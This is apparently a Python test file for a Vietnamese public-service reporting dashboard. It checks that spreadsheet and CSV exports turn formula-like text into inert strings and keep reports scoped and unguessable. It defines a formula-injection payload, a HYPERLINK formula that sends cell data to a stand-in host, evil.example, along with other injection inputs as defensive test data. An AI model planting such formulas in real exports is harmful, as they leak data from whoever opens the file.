"""Statistics and periodic reports are safe to open: no live formulas, scoped, unguessable ids."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import aiohttp
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from domain.catalogue import t
from storage.models import Report
from tests.dashboard.staff_support import add_staff, browser, login, page_token
from tests.e2e.service import free_port, running_service, service_settings
from tests.reporting.seed import SPECS, Spec, seed

PASSWORD = "mat-khau-an-toan"
QUERY = "tu=2026-03-02&den=2026-03-15"
EVIL = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Xem ảnh")'
REPORT_LINK = re.compile(r"/thong-ke/bao-cao/([\w-]+)\.xlsx")


def _with_evil_text(specs: list[Spec]) -> list[Spec]:
    first, *rest = specs
    evil = Spec(**{**first.__dict__, "text": EVIL, "phone": None})
    return [evil, *rest]


async def _generate(client: aiohttp.ClientSession, base: str, kind: str, start: str) -> str:
    """Generate a periodic report from the page's form; the public id of the stored report."""
    token = await page_token(client, f"{base}/thong-ke/bao-cao")
    async with client.post(
        f"{base}/thong-ke/bao-cao",
        allow_redirects=False,
        data={"csrf_token": token, "kind": kind, "start": start},
    ) as response:
        assert response.status == 303, await response.text()
        return response.headers["Location"].split("lap=")[1]


async def _listed(client: aiohttp.ClientSession, base: str) -> set[str]:
    async with client.get(f"{base}/thong-ke/bao-cao") as page:
        return set(REPORT_LINK.findall(await page.text()))


async def test_formula_like_text_is_never_a_live_formula(
    db_url: str, sessions: async_sessionmaker[AsyncSession]
) -> None:
    codes = await seed(sessions, _with_evil_text(SPECS))
    async with sessions() as session:  # a unit typed by staff, in the periodic «Danh sách» too
        await session.execute(
            update(Report).where(Report.code == codes[0]).values(assigned_unit="@SUM(1+1)*cmd")
        )
        await session.execute(
            update(Report).where(Report.code == codes[1]).values(assigned_unit="=1+2")
        )
        await session.commit()
    await add_staff(sessions, "quantri", PASSWORD, "admin")
    async with (
        running_service(service_settings(None, db_url, free_port())) as base,
        browser() as client,
    ):
        await login(client, base, "quantri", PASSWORD)
        async with client.get(f"{base}/thong-ke/xuat/danh-sach.xlsx?{QUERY}") as response:
            listing = await response.read()
        async with client.get(f"{base}/thong-ke/xuat/danh-sach.csv?{QUERY}") as response:
            text = (await response.read()).decode("utf-8-sig")
        periodic_id = await _generate(client, base, "weekly", "2026-03-02")
        async with client.get(f"{base}/thong-ke/bao-cao/{periodic_id}.xlsx") as response:
            periodic = await response.read()

    for body in (listing, periodic):
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
            assert sheets and not any(b"<f>" in archive.read(name) for name in sheets)
    sheet = load_workbook(io.BytesIO(listing)).worksheets[0]
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
    assert cells[EVIL].data_type == "s" and cells[EVIL].quotePrefix
    assert cells["=1+2"].data_type == "s" and cells["@SUM(1+1)*cmd"].data_type == "s"
    periodic_list = load_workbook(io.BytesIO(periodic))[t("stats_sheet_list")]
    units = {cell.value: cell for row in periodic_list.iter_rows() for cell in row}
    assert units["=1+2"].data_type == "s" and units["=1+2"].quotePrefix

    rows = list(csv.reader(io.StringIO(text)))
    by_code = {row[0]: row for row in rows[1:]}
    assert "'" + EVIL in by_code[codes[0]]
    assert "'@SUM(1+1)*cmd" in by_code[codes[0]] and "'=1+2" in by_code[codes[1]]


async def test_periodic_reports_stay_within_the_officers_wards(
    db_url: str, sessions: async_sessionmaker[AsyncSession]
) -> None:
    await seed(sessions, SPECS)
    await add_staff(sessions, "quantri", PASSWORD, "admin")
    await add_staff(sessions, "kinhbac", PASSWORD, "can_bo", communes=("9187",))
    await add_staff(sessions, "bacgiang", PASSWORD, "can_bo", communes=("7210",))
    settings = service_settings(None, db_url, free_port())
    async with (
        running_service(settings) as base,
        browser() as admin,
        browser() as kinhbac,
        browser() as bacgiang,
    ):
        await login(admin, base, "quantri", PASSWORD)
        await login(kinhbac, base, "kinhbac", PASSWORD)
        await login(bacgiang, base, "bacgiang", PASSWORD)
        province = await _generate(admin, base, "weekly", "2026-03-09")
        own = await _generate(kinhbac, base, "weekly", "2026-03-09")
        assert province != own and not own.isdigit() and len(own) >= 20

        assert await _listed(kinhbac, base) == {own}
        assert await _listed(bacgiang, base) == set()
        assert await _listed(admin, base) == {province, own}
        for other, public_id in ((kinhbac, province), (bacgiang, own), (bacgiang, province)):
            for ext in ("xlsx", "html"):
                url = f"{base}/thong-ke/bao-cao/{public_id}.{ext}"
                async with other.get(url, allow_redirects=False) as response:
                    assert response.status == 404

        async with kinhbac.get(f"{base}/thong-ke/bao-cao/{own}.xlsx") as response:
            book = load_workbook(io.BytesIO(await response.read()))
        async with kinhbac.get(f"{base}/thong-ke/bao-cao/{own}.html") as response:
            html = await response.text()
        async with admin.get(f"{base}/thong-ke/bao-cao/{province}.xlsx") as response:
            whole = load_workbook(io.BytesIO(await response.read()))
    # The week of 9 March had C (Kinh Bắc), D (no place) and E (Bắc Giang).
    assert book[t("stats_sheet_summary")].cell(3, 2).value == 1
    assert whole[t("stats_sheet_summary")].cell(3, 2).value == 3
    listed = list(book[t("stats_sheet_list")].iter_rows(values_only=True))
    assert len(listed) == 2 and t("stats_col_text") not in listed[0]
    assert "Mất điện cả xóm" not in html and "Phường Kinh Bắc" in html
    assert "Phường Bắc Giang" not in html


async def test_out_of_range_report_ids_are_not_found(
    db_url: str, sessions: async_sessionmaker[AsyncSession]
) -> None:
    await add_staff(sessions, "quantri", PASSWORD, "admin")
    async with (
        running_service(service_settings(None, db_url, free_port())) as base,
        browser() as client,
    ):
        await login(client, base, "quantri", PASSWORD)
        for path in (
            "/thong-ke/bao-cao/99999999999999999999.xlsx",
            "/thong-ke/bao-cao/99999999999999999999.html",
            "/thong-ke/bao-cao/1.xlsx",
        ):
            async with client.get(base + path, allow_redirects=False) as response:
                assert response.status == 404, path
